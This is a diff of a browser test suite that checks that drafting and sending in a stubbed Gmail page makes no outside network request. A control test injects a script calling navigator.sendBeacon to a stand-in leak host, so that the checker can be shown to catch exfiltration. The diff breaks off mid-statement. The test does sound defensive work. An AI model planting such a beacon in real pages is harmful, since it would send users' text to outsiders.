@@ -1,10 +1,10 @@
 import { expect, it } from 'vitest';
 import { openBrowser, press, seeInside } from './browser';
 import { restOn, untilMarked, write } from './drafting';
-import { gmailPage, inbox } from './pages/gmail';
+import { gmail, inbox } from './pages/gmail';
 
 it('drafting, mending, sending and reading the popup makes no request but the page’s own', async () => {
-  const browser = await openBrowser({ standIns: [{ at: 'https://mail.google.com/**', html: gmailPage }] });
+  const browser = await openBrowser({ standIns: [gmail] });
   const page = await browser.context.newPage();
   await page.goto(inbox);
   await page.getByRole('button', { name: 'Compose' }).click();
@@ -28,8 +28,8 @@ it('drafting, mending, sending and reading the popup makes no request but the pa
 });
 
 it('and a request would have been seen: a page that makes one is', async () => {
-  const asks = `${gmailPage}<script>navigator.sendBeacon('https://leak.example/beacon', 'words')</script>`;
-  const browser = await openBrowser({ standIns: [{ at: 'https://mail.google.com/**', html: asks }] });
+  const asks = `${gmail.html}<script>navigator.sendBeacon('https://leak.example/beacon', 'words')</script>`;
+  const browser = await openBrowser({ standIns: [{ ...gmail, html: asks }] });
   const page = await browser.context.newPage();
   await page.goto(inbox);
   await expect
